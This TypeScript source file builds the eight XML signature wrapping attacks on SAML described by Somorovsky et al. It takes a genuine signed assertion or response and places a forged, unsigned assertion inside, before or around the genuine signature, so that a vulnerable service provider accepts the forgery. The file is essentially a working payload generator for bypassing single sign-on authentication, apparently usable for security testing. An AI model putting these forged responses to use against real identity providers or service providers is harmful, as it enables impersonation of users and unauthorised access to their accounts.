// Signature wrapping: eight ways to hide a false assertion beside a genuine signature (Somorovsky et al., "On Breaking SAML", 2012).

interface Parts {
  readonly response: string;
  readonly assertion: string;
  readonly signature: string;
  /** The genuine assertion without its signature. */
  readonly bare: string;
  /** The false one, unsigned. */
  readonly evil: string;
}

const partsOf = (xml: string, forge: (assertion: string) => string): Parts => {
  const [assertion = ''] = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml) ?? [];
  const [signature = ''] = /<Signature[\s\S]*?<\/Signature>/.exec(assertion) ?? [];
  const bare = assertion.replace(signature, '');
  if (!assertion || !signature) throw new Error('no signed assertion');
  return { response: xml, assertion, signature, bare, evil: forge(bare) };
};

const inside = (element: string, more: string): string => element.replace(/(<\/[\w:]+>)$/, `${more}$1`);
const withSignature = (assertion: string, signature: string): string => assertion.replace(/<\/saml:Issuer>/, `</saml:Issuer>${signature}`);
const swap = ({ response, assertion }: Parts, by: string): string => response.replace(assertion, by);

/** The wrapped answers by number; 1 and 2 wrap a response that is signed itself. */
export const wrappings = (xml: string, signedResponse: string, forge: (assertion: string) => string): readonly (readonly [string, string])[] => {
  const parts = partsOf(xml, forge);
  const { assertion, signature, bare, evil } = parts;
  const [ownSignature = ''] = /<Signature[\s\S]*?<\/Signature>/.exec(signedResponse) ?? [];
  const unsigned = signedResponse.replace(ownSignature, '');
  const evilResponse = forge(unsigned.replace(/ID="_[^"]*"/, 'ID="_evil-response"'));
  const object = (content: string) => `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${content}</Object>`;
  const before = (what: string) => evilResponse.replace(/<\/saml:Issuer>/, `</saml:Issuer>${what}`);
  return [
    ['1: the signed response within its signature', before(inside(ownSignature, object(unsigned)))],
    ['2: the signed response beside its signature', before(unsigned + ownSignature)],
    ['3: the false assertion first', swap(parts, evil + assertion)],
    ['4: the genuine assertion within the false one', swap(parts, inside(evil, assertion))],
    ['5: the signature in the false one, the genuine one after it', swap(parts, withSignature(evil, signature) + bare)],
    ['6: the genuine one within the signature of the false one', swap(parts, withSignature(evil, inside(signature, bare)))],
    ['7: the false one among extensions', swap(parts, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`)],
    ['7b: the genuine one among extensions', swap(parts, `<samlp:Extensions>${assertion}</samlp:Extensions>${evil}`)],
    ['8: the genuine one in an object of the signature', swap(parts, withSignature(evil, inside(signature, object(bare))))],
  ];
};
